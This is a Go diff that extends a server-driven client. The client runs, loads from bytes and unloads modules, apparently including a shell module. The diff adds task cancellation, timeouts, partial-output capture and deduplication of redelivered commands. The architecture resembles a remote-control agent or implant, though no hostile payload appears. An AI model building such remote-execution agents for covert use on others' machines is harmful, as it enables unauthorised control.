@@ -3,6 +3,7 @@ package client
 import (
     "context"
     "encoding/json"
+    "errors"
     "fmt"
     "math/rand"
     "sync"
@@ -47,8 +48,16 @@ type Client struct {
     heartbeatFailCount    int
     heartbeatTimeout      time.Duration
     feedbackConfig        FeedbackConfig
+    executions            map[string]context.CancelFunc
+    completed             map[string]FeedbackResponse
+    completedOrder        []string
+    execMu                sync.Mutex
 }
 
+// maxCompletedCommands bounds the number of final results kept to answer
+// redelivered commands
+const maxCompletedCommands = 1000
+
 // FeedbackConfig represents the configuration for the feedback mechanism
 type FeedbackConfig struct {
     // MaxRetries is the maximum number of retries for a failed command
@@ -116,6 +125,8 @@ func NewClient(config Config) (*Client, error) {
             MaxRetryInterval:   30 * time.Second,
             RetryBackoffFactor: 2.0,
         },
+        executions: make(map[string]context.CancelFunc),
+        completed:  make(map[string]FeedbackResponse),
     }, nil
 }
 
@@ -251,11 +262,19 @@ func (c *Client) processNextCommand() {
     
     switch command.Type {
     case "execute_module":
-        c.handleExecuteModule(command.Module, command.Params)
+        // Modules run in the background so that a cancel_task command can
+        // be received while they execute
+        c.wg.Add(1)
+        go func() {
+            defer c.wg.Done()
+            c.handleExecuteModule(command.Module, command.Params)
+        }()
+    case "cancel_task":
+        c.handleCancelTask(command.Params)
     case "load_module":
         c.handleLoadModule(command.Module, command.Params)
     case "unload_module":
-        c.handleUnloadModule(command.Module)
+        c.handleUnloadModule(command.Module, command.Params)
     }
 }
 
@@ -263,15 +282,52 @@ func (c *Client) processNextCommand() {
 func (c *Client) handleExecuteModule(moduleName string, params json.RawMessage) {
     var commandID string
     
-    // Extract command ID if present
+    // Extract command ID and timeout if present
     var commandData struct {
         CommandID string `json:"command_id,omitempty"`
+        Timeout   int    `json:"timeout,omitempty"`
     }
     
     if err := json.Unmarshal(params, &commandData); err == nil && commandData.CommandID != "" {
         commandID = commandData.CommandID
     }
     
+    // Give the execution its own context so that cancel_task can stop it,
+    // bounded by the task timeout in seconds
+    var ctx context.Context
+    var cancel context.CancelFunc
+    if commandData.Timeout > 0 {
+        ctx, cancel = context.WithTimeout(c.ctx, time.Duration(commandData.Timeout)*time.Second)
+    } else {
+        ctx, cancel = context.WithCancel(c.ctx)
+    }
+    defer cancel()
+    
+    if commandID != "" {
+        c.execMu.Lock()
+        
+        // A redelivered command is not run again: a running one reports
+        // its own result, and a finished one gets its result resent
+        if _, running := c.executions[commandID]; running {
+            c.execMu.Unlock()
+            return
+        }
+        if cached, done := c.completed[commandID]; done {
+            c.execMu.Unlock()
+            c.sendFeedback(cached)
+            return
+        }
+        
+        c.executions[commandID] = cancel
+        c.execMu.Unlock()
+        
+        defer func() {
+            c.execMu.Lock()
+            delete(c.executions, commandID)
+            c.execMu.Unlock()
+        }()
+    }
+    
     // Create initial response with "processing" status
     response := FeedbackResponse{
         Type:      "module_result",
@@ -296,7 +352,7 @@ func (c *Client) handleExecuteModule(moduleName string, params json.RawMessage)
     retryInterval := c.feedbackConfig.RetryInterval
     
     for retryCount <= c.feedbackConfig.MaxRetries {
-        result, execErr = c.moduleMgr.ExecuteModule(c.ctx, moduleName, params)
+        result, execErr = c.moduleMgr.ExecuteModule(ctx, moduleName, params)
         
         if execErr == nil {
             // Successful execution
@@ -337,12 +393,15 @@ func (c *Client) handleExecuteModule(moduleName string, params json.RawMessage)
             
             // Wait before retrying
             select {
-            case <-c.ctx.Done():
-                execErr = c.ctx.Err()
-                break
+            case <-ctx.Done():
             case <-time.After(retryInterval):
                 // Continue with retry
             }
+            
+            if ctx.Err() != nil {
+                execErr = ctx.Err()
+                break
+            }
         } else {
             // Non-retryable error
             break
@@ -360,7 +419,18 @@ func (c *Client) handleExecuteModule(moduleName string, params json.RawMessage)
         Timestamp:  time.Now().Unix(),
     }
     
-    if execErr != nil {
+    if errors.Is(execErr, context.DeadlineExceeded) && ctx.Err() == context.DeadlineExceeded {
+        // Modules such as shell return their partial output along with
+        // the context's error, so keep it
+        finalResponse.Result = result
+        finalResponse.Error = fmt.Sprintf("timed out after %ds", commandData.Timeout)
+        finalResponse.Status = "timed_out"
+    } else if errors.Is(execErr, context.Canceled) && ctx.Err() != nil && c.ctx.Err() == nil {
+        // Cancelled by the server
+        finalResponse.Result = result
+        finalResponse.Error = "cancelled"
+        finalResponse.Status = "cancelled"
+    } else if execErr != nil {
         finalResponse.Error = execErr.Error()
         finalResponse.Status = "failed"
     } else {
@@ -368,6 +438,11 @@ func (c *Client) handleExecuteModule(moduleName string, params json.RawMessage)
         finalResponse.Status = "completed"
     }
     
+    // Remember the result in case the command is delivered again
+    if commandID != "" {
+        c.recordCompleted(finalResponse)
+    }
+    
     // Send final feedback
     err = c.sendFeedback(finalResponse)
     if err != nil {
@@ -375,6 +450,62 @@ func (c *Client) handleExecuteModule(moduleName string, params json.RawMessage)
     }
 }
 
+// recordCompleted keeps the final result of a command, forgetting the
+// oldest results beyond maxCompletedCommands
+func (c *Client) recordCompleted(response FeedbackResponse) {
+    c.execMu.Lock()
+    defer c.execMu.Unlock()
+    
+    if _, exists := c.completed[response.CommandID]; !exists {
+        c.completedOrder = append(c.completedOrder, response.CommandID)
+    }
+    c.completed[response.CommandID] = response
+    
+    for len(c.completedOrder) > maxCompletedCommands {
+        delete(c.completed, c.completedOrder[0])
+        c.completedOrder = c.completedOrder[1:]
+    }
+}
+
+// handleCancelTask handles the cancel_task command
+func (c *Client) handleCancelTask(params json.RawMessage) {
+    var commandData struct {
+        CommandID string `json:"command_id"`
+    }
+    
+    if err := json.Unmarshal(params, &commandData); err != nil || commandData.CommandID == "" {
+        return
+    }
+    
+    c.execMu.Lock()
+    cancel, running := c.executions[commandData.CommandID]
+    cached, done := c.completed[commandData.CommandID]
+    c.execMu.Unlock()
+    
+    if running {
+        // The execution reports the cancelled status itself
+        cancel()
+        return
+    }
+    
+    if done {
+        // Too late to cancel; resend the result in case it was lost
+        c.sendFeedback(cached)
+        return
+    }
+    
+    // The command never arrived
+    c.sendFeedback(FeedbackResponse{
+        Type:      "module_result",
+        ClientID:  c.config.ID,
+        CommandID: commandData.CommandID,
+        Success:   false,
+        Error:     "cancelled",
+        Status:    "cancelled",
+        Timestamp: time.Now().Unix(),
+    })
+}
+
 // handleLoadModule handles the load_module command
 func (c *Client) handleLoadModule(moduleName string, params json.RawMessage) {
     // Extract command ID if present
@@ -421,6 +552,11 @@ func (c *Client) handleLoadModule(moduleName string, params json.RawMessage) {
         for retryCount <= c.feedbackConfig.MaxRetries {
             loadErr = c.moduleMgr.LoadModuleFromBytes(moduleName, commandData.ModuleBytes)
             
+            // A module that is already loaded needs no loading
+            if loadErr == module.ErrModuleAlreadyLoaded {
+                loadErr = nil
+            }
+            
             if loadErr == nil {
                 // Successful loading
                 break
@@ -485,12 +621,18 @@ func (c *Client) handleLoadModule(moduleName string, params json.RawMessage) {
 }
 
 // handleUnloadModule handles the unload_module command
-func (c *Client) handleUnloadModule(moduleName string) {
+func (c *Client) handleUnloadModule(moduleName string, params json.RawMessage) {
+    // Extract command ID if present
+    var commandData struct {
+        CommandID string `json:"command_id,omitempty"`
+    }
+    json.Unmarshal(params, &commandData)
+    
     // Create initial response with "processing" status
     response := FeedbackResponse{
         Type:      "module_unload_result",
         ClientID:  c.config.ID,
-        CommandID: "", // No command ID for unload module
+        CommandID: commandData.CommandID,
         Module:    moduleName,
         Success:   false,
         Status:    "processing",
@@ -525,7 +667,7 @@ func (c *Client) handleUnloadModule(moduleName string) {
             retryResponse := FeedbackResponse{
                 Type:       "module_unload_result",
                 ClientID:   c.config.ID,
-                CommandID:  "", // No command ID for unload module
+                CommandID:  commandData.CommandID,
                 Module:     moduleName,
                 Success:    false,
                 Error:      unloadErr.Error(),
@@ -560,7 +702,7 @@ func (c *Client) handleUnloadModule(moduleName string) {
     finalResponse := FeedbackResponse{
         Type:       "module_unload_result",
         ClientID:   c.config.ID,
-        CommandID:  "", // No command ID for unload module
+        CommandID:  commandData.CommandID,
         Module:     moduleName,
         Success:    unloadErr == nil,
         RetryCount: retryCount,